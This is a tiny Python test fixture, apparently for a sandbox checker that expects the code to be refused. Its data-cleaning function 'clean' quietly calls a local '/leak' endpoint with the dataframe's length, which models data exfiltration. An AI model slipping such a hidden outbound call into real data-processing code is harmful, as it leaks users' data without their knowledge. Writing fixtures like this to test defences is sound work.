# expect: refused
# mode: transform
import urllib.request

PARAMS: dict = {}


def clean(df):
    urllib.request.urlopen(f"http://127.0.0.1:{PARAMS['port']}/leak?data={len(df)}", timeout=2).read()
    return df
